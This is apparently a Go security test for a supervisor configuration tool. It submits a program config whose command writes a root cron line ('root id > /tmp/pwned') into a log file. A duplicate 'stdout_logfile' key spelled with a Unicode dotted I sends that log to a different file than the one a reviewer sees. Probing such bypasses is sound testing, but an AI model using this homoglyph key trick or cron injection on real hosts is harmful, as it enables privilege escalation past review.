package supervisor

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/poolvisor/poolvisor/internal/ops"
)

func TestZZReviewDottedI(t *testing.T) {
	fx := newHostFixture(t)
	evil := filepath.Join(fx.s.Dir, "evil-cron.txt")
	good := filepath.Join(fx.s.LogDir, "mailer.log")
	sec := "[program:mailer]\n" +
		"command = /bin/sh -c \"echo '* * * * * root id > /tmp/pwned'; while true; do sleep 600; done\"\n" +
		"startsecs = 0\n" +
		"autorestart=true\n" +
		"stdout_logfile=" + evil + "\n" +
		"stdout_logf\u0130le=" + good + "\n"
	p, err := plan(t, fx.b, "supervisor.program.edit", "mailer", ops.Arg{Key: "content", Value: sec})
	if err != nil {
		t.Fatalf("refused: %v", err)
	}
	t.Logf("summary: %s effects %v", p.Summary, p.Effects)
	out, err := p.Apply(t.Context())
	t.Logf("apply: %v %v", out.Message, err)
	time.Sleep(2 * time.Second)
	b, err := os.ReadFile(evil)
	t.Logf("evil file: %q err %v", b, err)
	t.Logf("apps.ini now:\n%s", readFile(t, fx.apps))
}
